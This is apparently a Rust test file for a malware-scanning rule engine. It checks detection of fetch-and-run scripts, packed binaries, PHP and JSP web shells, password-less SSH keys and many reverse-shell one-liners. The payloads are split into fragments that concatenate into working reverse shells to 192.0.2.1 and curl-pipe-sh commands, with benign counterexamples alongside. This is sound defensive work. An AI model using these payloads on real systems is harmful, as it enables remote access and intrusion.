use super::*;
use std::sync::LazyLock;

fn hits(rules: &Rules, part: Part<'_>) -> Vec<(String, Meaning)> {
    let mut out = Vec::new();
    rules.scan(part, |hit| out.push((hit.rule.to_owned(), hit.meaning))).expect("scans");
    out
}

#[test]
fn rules_know_the_file_and_whether_they_see_all_of_it() {
    let rules = Rules::load(
        r#"rule named : shadow { condition: filename == "x.so" and filepath == "lib/x.so" and extension == "so" }
           rule small : suspicious { strings: $a = "needle" condition: whole and filesize < 100 and $a at 0 }
           rule plain { strings: $a = "needle" condition: $a }"#,
    );
    let rules = rules.unwrap_or_else(|error| panic!("{error}"));
    let part = Part { path: "lib/x.so", bytes: b"needle", whole: true };
    let named = |names: &[(&str, Meaning)]| {
        names.iter().map(|(name, meaning)| ((*name).to_owned(), *meaning)).collect::<Vec<_>>()
    };
    let (shadow, suspect, malware) = (Meaning::Shadow, Meaning::Suspicious, Meaning::Malware);
    assert_eq!(hits(&rules, part), named(&[("named", shadow), ("small", suspect), ("plain", malware)]));
    let window = Part { path: "lib/y.so", whole: false, ..part };
    assert_eq!(hits(&rules, window), named(&[("plain", malware)]));
}

#[test]
fn scripts_that_fetch_and_run_packed_programs_and_jobs_are_suspicious() {
    let rules = Rules::load("").unwrap_or_else(|error| panic!("{error}"));
    let fetch = ["curl -fsSL http://192.0.2.1/x ", "| sh\n"].concat();
    let packed = [
        "\x7fELF",
        &" ".repeat(200),
        "UP",
        "X!",
        &" ".repeat(200),
        "$Info: This file is packed with the ",
        "UP",
        "X executable packer",
    ]
    .concat();
    for (path, bytes, rule) in [
        ("srv/install", format!("#!/bin/sh\n{fetch}"), "fetches_and_runs"),
        ("entrypoint.sh", "#!/bin/bash\necho aGk= | base64 -d | bash\n".to_owned(), "runs_what_it_decodes"),
        ("usr/bin/x", packed, "packed_program"),
        ("etc/cron.d/x", format!("* * * * * root {fetch}"), "job_that_fetches"),
        ("srv/crontab", format!("* * * * * root {fetch}"), "job_that_fetches"),
        ("srv/x.sh", "echo aGk= | base64 -d | bash\n".to_owned(), "runs_what_it_decodes"),
        (
            "app/package.json",
            ["{\"postinstall\":\"curl http://192.0.2.1/x", "|sh\"}"].concat(),
            "job_that_fetches",
        ),
        (
            "etc/systemd/system/x.service",
            format!("[Service]\nExecStart=/bin/sh -c '{fetch}'"),
            "job_that_fetches",
        ),
    ] {
        let found = hits(&rules, Part { path, bytes: bytes.as_bytes(), whole: true });
        assert!(found.contains(&(rule.to_owned(), Meaning::Suspicious)), "{path}: {found:?}");
    }
    let harmless = format!("Usage:\n\n    {fetch}");
    assert_eq!(
        hits(&rules, Part { path: "usr/share/doc/x/README", bytes: harmless.as_bytes(), whole: true }),
        []
    );
}

#[test]
fn shells_of_the_web_and_of_the_network_are_malware_in_one_line_or_in_many() {
    let rules = Rules::load("").unwrap_or_else(|error| panic!("{error}"));
    let php = |between: &str| ["<?php", between, "ev", "al($_PO", "ST['c']); ?>"].concat();
    let python = |end: &str| {
        [
            "import os;s=socket.soc",
            "ket();",
            end,
            "os.du",
            "p2(s.fileno(),0);",
            end,
            "p=call(['/bin",
            "/sh'])",
        ]
        .concat()
    };
    let bash = ["bash -", "i >& /dev/t", "cp/192.0.2.1/4444 0>", "&1"].concat();
    for (text, name) in [
        (php(" @"), "php_web_shell"),
        (php("\n// nothing\n@"), "php_web_shell"),
        (python(" "), "reverse_shell_script"),
        (python("\n"), "reverse_shell_script"),
        (bash, "reverse_shell_script"),
    ] {
        let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
        assert_eq!(found, [(name.to_owned(), Meaning::Malware)], "{text}");
    }
    let short = ["<?=sys", "tem($_GE", "T[0])?>"].concat();
    let blanks = short.replace("system(", &format!("system(\n{}", "\t".repeat(40)));
    for text in [short.clone(), short.replace("system(", "`").replace(")", "`"), blanks] {
        let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
        assert_eq!(found, [("php_web_shell".to_owned(), Meaning::Malware)], "{text}");
    }
    let inside = ["\\nbash -", "i >& /dev/t", "cp/192.0.2.1/4444 0>", "&1"].concat();
    let found = hits(&rules, Part { path: "srv/x", bytes: inside.as_bytes(), whole: true });
    assert_eq!(found, [("reverse_shell_script".to_owned(), Meaning::Malware)]);
    // Far apart it may be what a manual says of it.
    let far = php(&"# nothing\n".repeat(500));
    let found = hits(&rules, Part { path: "srv/x", bytes: far.as_bytes(), whole: true });
    assert_eq!(found, [("php_runs_a_request".to_owned(), Meaning::Suspicious)]);
    let jsp = ["<% Runtime.getRuntime().ex", "ec(request.getParameter(\"cmd\")); %>"].concat();
    let found = hits(&rules, Part { path: "srv/x.jsp", bytes: jsp.as_bytes(), whole: true });
    assert_eq!(found, [("jsp_web_shell".to_owned(), Meaning::Malware)]);
    for text in [
        short.trim_start_matches("<?=").to_owned(),
        php("\n$").replace("POST[", "POSTED["),
        "<?php system('ls'); $_GET['x'];".into(),
    ] {
        let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
        assert_eq!(found, [], "{text}");
    }
}

#[test]
fn ways_in_without_a_password_are_for_people_to_look_at() {
    let rules = Rules::load("").unwrap_or_else(|error| panic!("{error}"));
    let of = |path: &str, text: &str| -> Vec<String> {
        let found = hits(&rules, Part { path, bytes: text.as_bytes(), whole: true });
        assert!(found.iter().all(|(_, meaning)| *meaning == Meaning::Suspicious), "{found:?}");
        found.into_iter().map(|(rule, _)| rule).collect()
    };
    let key = format!("from=\"10.0.0.1\" ssh-ed25519 AAAA{} eve@example.org\n", "C3NzaC1lZDI1NTE5".repeat(4));
    assert_eq!(of("root/.ssh/authorized_keys", &key), ["key_that_lets_in"]);
    assert_eq!(of("home/a/.ssh/authorized_keys2", &format!("# a\n{key}")), ["key_that_lets_in"]);
    for (path, text) in [("root/.ssh/known_hosts", &key[..]), ("root/.ssh/authorized_keys", "# nobody\n")] {
        assert_eq!(of(path, text), [""; 0], "{path}");
    }
    assert_eq!(of("root/.rhosts", "+ +\n"), ["host_that_is_trusted"]);
    assert_eq!(of("etc/hosts.equiv", "# all\n10.0.0.1 eve\n"), ["host_that_is_trusted"]);
    for (path, text) in [("etc/hosts.equiv", "# 10.0.0.1\n\n"), ("usr/share/doc/x/hosts.equiv", "+\n")] {
        assert_eq!(of(path, text), [""; 0], "{path}");
    }
}

/// What the built-in rules say of a script, each with what it means.
fn of_script(text: &str) -> Vec<String> {
    static RULES: LazyLock<Rules> =
        LazyLock::new(|| Rules::load("").unwrap_or_else(|error| panic!("{error}")));
    let found = hits(&RULES, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
    found.into_iter().map(|(rule, meaning)| format!("{rule}: {meaning:?}")).collect()
}

#[test]
fn shells_over_the_network_are_for_people_to_look_at() {
    // In two parts: nothing here is to be found in the test itself.
    for parts in [
        ["zsh -i  >/dev/t", "cp/$HOST/$PORT"],
        ["sh -i >& /dev/u", "dp/$host/53 0>&1 &"],
        ["rm /tmp/f;mkfi", "fo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4242 >/tmp/f"],
        ["ncat 192.0.2.1 4444 -", "e /bin/bash"],
        ["nc -lvp 4444 -", "c sh"],
        ["ncat -l 8080 --e", "xec \"/bin/bash\""],
        ["socat tcp-connect:192.0.2.1:4242 ex", "ec:'bash -li',pty,stderr"],
        [
            "perl -e 'use Socket;socket(S,PF_IN",
            "ET,SOCK_STREAM,1);if(connect(S,$a)){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'",
        ],
        ["ruby -e 'f=TCPSocket.o", "pen(\"192.0.2.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'"],
        ["php -r '$s=fsocko", "pen(\"192.0.2.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"],
        ["s=socket.soc", "ket();s.connect((h,p));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"],
        ["s=socket.crea", "te_connection((h,p))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('sh')"],
        ["php -r '$sock=fsocko", "pen(\"192.0.2.1\",4444);shell_exec(\"sh <&3 >&3 2>&3\");'"],
    ] {
        assert_eq!(of_script(&parts.concat()), ["shell_over_the_network: Suspicious"], "{parts:?}");
    }
    for text in [
        "nc -z 127.0.0.1 80 && exec su app -c /bin/sh",
        "socat UNIX-LISTEN:x EXEC:/usr/bin/backup",
        "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && echo up",
        "exec 3<>/dev/tcp/127.0.0.1/80; printf 'GET / HTTP/1.0' >&3",
        "Started with bash -i it reads its files.\nIt opens /dev/tcp/HOST/PORT itself.",
        "mkfifo /run/x; cat /run/x | sh -i\nnc -z localhost 1",
    ] {
        assert_eq!(of_script(text), [""; 0], "{text}");
    }
}

#[test]
fn commands_from_the_network_are_for_people_to_look_at() {
    for parts in [
        ["exec 5<>/dev/t", "cp/192.0.2.1/4242; cat <&5 | while read line; do $line 2>&5 >&5; done"],
        ["exec 196<>/dev/t", "cp/192.0.2.1/4242; sh <&196 >&196 2>&196"],
        ["bash -c 'exec {fd}<>/dev/t", "cp/192.0.2.1/4242; bash -i <&\"$fd\"; sh <&3'"],
        [
            "awk 'BEGIN {s = \"/inet/t",
            "cp/0/192.0.2.1/4242\"; while(1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c) } }'",
        ],
        [
            "lua -e 'local t=require(\"soc",
            "ket\").tcp();t:connect(\"h\",4242);local r=t:receive();local f=io.popen(r,\"r\");t:send(f:read(\"*a\"))'",
        ],
        [
            "$c = New-Object System.Net.Sockets.TCPCli",
            "ent('192.0.2.1',4242);$s = $c.GetStream();while($s.Read($b,0,9)){$o = (iex $d | Out-String)}",
        ],
        [
            "var n = require('net'), sh = require('child_process').spawn('/bin/sh', []); var c = new net.Soc",
            "ket(); c.connect(4242, 'h', function(){ c.pipe(sh.stdin); sh.stdout.pipe(c); });",
        ],
        [
            "(function(){var n=require('net'),c=require('child_process'),s=c.spawn('/bin/sh',[]);var k=new n.Soc",
            "ket();k.connect(4444,'h',function(){k.pipe(s.stdin);s.stdout.pipe(k);s.stderr.pipe(k);});})();",
        ],
        ["ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSoc", "ket.new(\"192.0.2.1\",4444))'"],
        [
            "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Soc",
            "ket::INET(PeerAddr,\"192.0.2.1:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
        ],
        ["telnet 192.0.2.1 4444 | /bi", "n/sh | telnet 192.0.2.1 4445"],
        ["zsh -c 'zmodload zsh/net/tcp && ztc", "p 192.0.2.1 4444; zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"],
        ["os.execute(\"/bin/sh -i <", "&3 >&3 2>&3\")"],
    ] {
        assert_eq!(of_script(&parts.concat()), ["commands_from_the_network: Suspicious"], "{parts:?}");
    }
    for text in [
        "until exec 3<>/dev/tcp/db/5432; do sleep 1; done; while read -r line <&3; do echo \"$line\"; done",
        "exec 3<>/dev/tcp/127.0.0.1/80; printf 'GET / HTTP/1.0' >&3; cat <&3",
        "BEGIN { s = \"/inet/tcp/0/h/80\"; print \"GET /\" |& s; while ((s |& getline) > 0) print }",
        "local s = require(\"socket\").tcp() s:send(\"x\") print(s:receive())",
        "$c = New-Object System.Net.Sockets.TCPClient('db', 5432); $c.Close()",
        "const c = net.connect(80); c.pipe(process.stdout); spawn('ls').stdout.pipe(c)",
        "exec 3<>/dev/tcp/db/5432 && exec 3>&-; ./parse.sh <&3; psql.sh -q <&4",
        &format!(
            "const s = new net.Socket();{}spawn(\"sh\");{}p.pipe(x.stdin); y.stdout.pipe(z)",
            " ".repeat(2000),
            " ".repeat(2000)
        ),
        "exec 3<>/dev/tcp/db/5432; while read -r f; do \"$LOGGER\" >&2; done",
    ] {
        assert_eq!(of_script(text), [""; 0], "{text}");
    }
}

#[test]
fn a_script_is_found_however_long_it_is_made() {
    let shell = ["bash -", "i >& /dev/t", "cp/192.0.2.1/4444 0>", "&1\n"].concat();
    let comment = "# nothing to see in this line of a script\n";
    let other = "rule other { condition: false }";
    for rules in [Rules::load(""), Rules::load(other)] {
        let rules = rules.unwrap_or_else(|error| panic!("{error}"));
        for (lines, whole) in [(30_000, true), (60_000, true), (25_000, false)] {
            for at in [0, lines / 3, lines - 1, lines] {
                let text = [&comment.repeat(at), &*shell, &comment.repeat(lines - at)].concat();
                let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole });
                assert_eq!(found, [("reverse_shell_script".to_owned(), Meaning::Malware)], "{lines} {at}");
            }
            let text = comment.repeat(lines);
            assert_eq!(hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole }), []);
        }
    }
}

/// The text of each built-in rule, by its name.
fn built_in() -> Vec<(&'static str, &'static str)> {
    let rules = BUILT_IN.split("\nrule ").map(|text| text.trim_start_matches("rule "));
    rules.map(|text| (text.split([' ', '\n']).next().unwrap_or_default(), text)).collect()
}

/// The words of a rule between quotes.
fn strings(rule: &str) -> Vec<&str> {
    let lines = rule.lines().filter_map(|line| line.trim().strip_prefix('$')?.split_once("= \""));
    lines.filter_map(|(_, text)| text.rsplit_once('"').map(|(text, _)| text)).collect()
}

#[test]
fn rules_that_do_not_look_at_large_files_say_so() {
    let rules = built_in();
    assert!(rules.len() > NEEDED.len());
    for (name, text) in &rules {
        let condition = text.split("condition:").nth(1).unwrap_or_default();
        let size = condition.split("whole and filesize < ").nth(1).unwrap_or_default();
        let (number, unit) = size.split_at(size.find(|sign: char| !sign.is_ascii_digit()).unwrap_or(0));
        let bytes = match (number.parse::<usize>(), &unit[..unit.len().min(2)]) {
            (Ok(number), "KB") => number << 10,
            (Ok(number), "MB") => number << 20,
            _ => usize::MAX,
        };
        let is_needed = NEEDED.iter().any(|(needed, _)| needed == name);
        assert_ne!(is_needed, bytes <= LARGE_BYTES, "{name}: {bytes}");
    }
    assert!(NEEDED.iter().all(|(needed, _)| rules.iter().any(|(name, _)| name == needed)));
}

#[test]
fn large_files_are_looked_at_where_a_rule_may_hit_and_only_there() {
    let rules = Rules::load("").unwrap_or_else(|error| panic!("{error}"));
    let large = |texts: &[&str]| {
        let mut bytes = b"\x7fELF".to_vec();
        for text in texts {
            bytes.extend([0; 50]);
            bytes.extend(text.as_bytes());
        }
        bytes.resize(LARGE_BYTES + 5, 0);
        bytes
    };
    let canary = String::from_utf8(canary()).expect("text");
    for (name, needed) in NEEDED {
        let rule = built_in().into_iter().find(|(rule, _)| *rule == name).expect("built in").1;
        let all = if name == CANARY_RULE { vec![canary.as_str()] } else { strings(rule) };
        assert!(all.iter().any(|text| text.contains(needed)), "{name}");
        for whole in [true, false] {
            let bytes = large(&all);
            let found = hits(&rules, Part { path: "x", bytes: &bytes, whole });
            assert_eq!(found.iter().map(|(rule, _)| rule.as_str()).collect::<Vec<_>>(), [name], "{whole}");
        }
        // With everything else, the rule itself does not hit.
        let others: Vec<&str> = all.into_iter().filter(|text| !text.contains(needed)).collect();
        let bytes = large(&others);
        let mut found = Vec::new();
        let scanner = rules.scanner().unwrap_or_else(|error| panic!("{error}"));
        scan(scanner, Part::nameless(&bytes), |hit| found.push(hit.rule.to_owned())).expect("scans");
        assert_eq!(found, Vec::<String>::new(), "{name}");
    }
    // Rules of an operator may hit anything.
    let rules =
        Rules::load("rule all { condition: filesize > 2MB }").unwrap_or_else(|error| panic!("{error}"));
    assert_eq!(hits(&rules, Part::nameless(&large(&[]))), [("all".to_owned(), Meaning::Malware)]);
}
